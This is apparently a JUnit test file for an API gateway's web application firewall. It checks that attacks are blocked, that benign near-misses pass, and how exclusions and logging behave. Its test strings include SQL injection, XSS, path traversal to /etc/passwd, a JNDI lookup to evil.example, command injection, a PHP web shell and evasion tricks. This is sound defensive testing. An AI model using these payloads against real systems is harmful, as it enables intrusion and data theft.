package dev.bastion.waf;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import dev.bastion.testing.LogCapture;
import dev.bastion.testing.TestGateway;
import io.vertx.core.json.JsonObject;
import java.net.URLEncoder;
import java.net.http.HttpRequest;
import java.net.http.HttpResponse;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.List;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;

/**
 * Request inspection through a real gateway in block mode: attacks refused before the upstream, benign
 * near-misses passed, the llm profile leaving prompt text to the guardrails, exclusions, and what is
 * recorded (rule ids in the access line and the audit event, never in the answer, never the payload).
 */
class WafGatewayTest {
    static TestGateway gw;
    static String key;

    @BeforeAll
    static void start() throws Exception {
        gw = TestGateway.start(TestGateway.config("""
                  - { id: api, match: { methods: [GET, POST], path: /api/* }, upstream: app, auth: { methods: [api_key] } }
                  - id: excluded
                    match: { methods: [GET], path: /search }
                    upstream: app
                    auth: { methods: [api_key] }
                    waf: { exclusions: [{ rule: 942100, target: "args:q" }, { rule: 942130 }] }
                  - { id: chat, match: { methods: [POST], path: /v1/chat/completions }, upstream: app, auth: { methods: [api_key] }, llm: chat, guard: "off" }
                """) + """
                waf:
                  rules: { mode: block }
                """);
        key = gw.createKey("acme", "invoke");
    }

    @AfterAll
    static void stop() throws Exception {
        gw.close();
    }

    static HttpResponse<String> get(String path, String q) throws Exception {
        return gw.get(path + "?q=" + URLEncoder.encode(q, StandardCharsets.UTF_8), key);
    }

    static String code(HttpResponse<String> r) {
        return new JsonObject(r.body()).getJsonObject("error").getString("code");
    }

    @Test
    void attacksAreRefusedBeforeTheUpstreamAndTheAnswerNamesNoRule() throws Exception {
        int before = gw.upstream.seen().size();
        try (LogCapture logs = LogCapture.capture()) {
            for (String attack : List.of("1 UNION/**/SELECT password FROM users", "<script>alert(1)</script>", "../../etc/passwd",
                    "${jndi:ldap://evil.example/a}", "; cat /etc/passwd", "<?php system($_GET['c']); ?>", "1' OR '1'='1")) {
                HttpResponse<String> r = get("/api/search", attack);
                assertThat(r.statusCode()).as(attack).isEqualTo(403);
                assertThat(code(r)).isEqualTo("request_blocked");
                assertThat(new JsonObject(r.body()).getJsonObject("error").getString("message"))
                        .isEqualTo("The request was refused by request inspection; quote the request id if you think this is wrong.");
            }
            assertThat(gw.upstream.seen()).as("no attack went upstream").hasSize(before);
            String line = gw.accessLines().getLast();
            assertThat(line).contains("\"waf\":{\"action\":\"block\"").contains("\"rules\":[").doesNotContain("OR '1'");
            assertThat(logs.all()).contains("waf.block").doesNotContain("alert(1)", "etc/passwd", "jndi:ldap");
        }
    }

    /**
     * The attack: a key repeated in one JSON object makes the body no tree, and the WAF would read the raw text — where
     * {@code \\u0055NION} is not UNION, though every JSON parser behind it decodes it so.
     */
    @Test
    void aJsonBodyThatRepeatsAKeyCannotHideEscapedAttacksFromInspection() throws Exception {
        int before = gw.upstream.seen().size();
        for (String body : List.of(
                "{\"q\":\"1 \\u0055NION \\u0053ELECT password FROM users\",\"q\":\"hello\"}",
                "{\"q\":\"hello\",\"q\":\"\\u003cscript\\u003ealert(1)\\u003c/script\\u003e\"}",
                "{\"a\":{\"x\":1,\"x\":2},\"q\":\"1 \\u0055NION \\u0053ELECT password FROM users\"}")) {
            HttpResponse<String> r = gw.send(gw.request("/api/items").header("Authorization", "Bearer " + key).header("Content-Type", "application/json")
                    .POST(HttpRequest.BodyPublishers.ofString(body)).build());
            assertThat(r.statusCode()).as(body).isIn(400, 403);
        }
        // The same escapes under a type that is not JSON, for a backend that parses JSON anyway.
        HttpResponse<String> plain = gw.send(gw.request("/api/items").header("Authorization", "Bearer " + key).header("Content-Type", "text/plain")
                .POST(HttpRequest.BodyPublishers.ofString("{\"q\":\"1 \\u0055NION \\u0053ELECT password FROM users\"}")).build());
        assertThat(plain.statusCode()).isEqualTo(403);
        assertThat(gw.upstream.seen()).as("none went upstream").hasSize(before);
    }

    @Test
    void benignNearMissesPass() throws Exception {
        for (String benign : List.of("select your plan from the list", "O'Brien", "Please order by price", "the union of two sets",
                "<b>bold</b> text", "1+1=2", "email me at jane@example.com", "don't stop", "C:/Users is a folder", "price: $5 {discount}",
                "time is money", "cat pictures", "test1", "0", "42", "find me a hotel", "sort by date", "the session starts at 9", "if you want, for all")) {
            assertThat(get("/api/search", benign).statusCode()).as(benign).isEqualTo(200);
        }
    }

    @Test
    void theLlmProfileLeavesPromptTextToTheGuardrailsButInspectsTheRest() throws Exception {
        String prompt = new JsonObject().put("model", "gpt-4o").put("messages", List.of(new JsonObject().put("role", "user")
                .put("content", "Why does '; DROP TABLE users; -- break my query, and what does <script>alert(1)</script> do?"))).encode();
        assertThat(gw.postJson("/v1/chat/completions", key, prompt).statusCode()).isEqualTo(200);
        String injectedField = new JsonObject().put("model", "gpt-4o").put("user", "1' OR '1'='1")
                .put("messages", List.of(new JsonObject().put("role", "user").put("content", "hello"))).encode();
        HttpResponse<String> r = gw.postJson("/v1/chat/completions", key, injectedField);
        assertThat(r.statusCode()).isEqualTo(403);
        HttpResponse<String> api = gw.postJson("/api/notes", key, prompt);
        assertThat(api.statusCode()).as("the api profile inspects everything").isEqualTo(403);
    }

    @Test
    void aRequestPaddedPastWhatIsInspectedIsRefusedNotPassedUninspected() throws Exception {
        String padded = "a=1&".repeat(RequestTargets.MAX_VALUES) + "q=" + URLEncoder.encode("1 union select password from users", StandardCharsets.UTF_8);
        HttpResponse<String> r = gw.send(gw.request("/api/form").header("Authorization", "Bearer " + key)
                .header("Content-Type", "application/x-www-form-urlencoded").POST(java.net.http.HttpRequest.BodyPublishers.ofString(padded)).build());
        assertThat(r.statusCode()).isEqualTo(403);
        assertThat(code(r)).isEqualTo("request_blocked");
        assertThat(gw.accessLine(r.headers().firstValue("X-Request-Id").orElseThrow())).contains("\"incomplete\":true");
    }

    @Test
    void exclusionsApplyToTheirRuleAndTargetOnly() throws Exception {
        assertThat(gw.get("/search?q=" + URLEncoder.encode("1 union select 2", StandardCharsets.UTF_8), key).statusCode()).isEqualTo(200);
        assertThat(gw.get("/search?r=" + URLEncoder.encode("1 union select 2", StandardCharsets.UTF_8), key).statusCode()).isEqualTo(403);
        assertThat(gw.get("/search?q=" + URLEncoder.encode("<script>x</script>", StandardCharsets.UTF_8), key).statusCode()).isEqualTo(403);
    }

    @Test
    void badRulesStopTheStartNamingFileAndRule() throws Exception {
        Path f = Files.createTempFile("rules", ".yaml");
        try {
            Files.writeString(f, "rules:\n  - { id: 990001, targets: [args], rx: 'a' }\n  - { id: 990002, targets: [argz], rx: 'b' }\n");
            assertThatThrownBy(() -> RuleSet.load(List.of(f.toString()))).hasMessageContaining(f + ": rule 990002: targets: unknown target 'argz'");
            Files.writeString(f, "rules:\n  - { id: 990003, targets: [args], rx: 'x*' }\n");
            assertThatThrownBy(() -> RuleSet.load(List.of(f.toString()))).hasMessageContaining("matches the empty string");
            Files.writeString(f, "rules:\n  - { id: 942100, targets: [args], rx: 'x' }\n");
            assertThatThrownBy(() -> RuleSet.load(List.of(f.toString()))).hasMessageContaining("the id is used twice");
            Files.writeString(f, "rules:\n  - { id: 990004, targets: [args], transforms: [url_decode], rx: 'x' }\n");
            assertThatThrownBy(() -> RuleSet.load(List.of(f.toString()))).hasMessageContaining("unknown transformation 'url_decode'");
        } finally {
            Files.deleteIfExists(f);
        }
    }
}
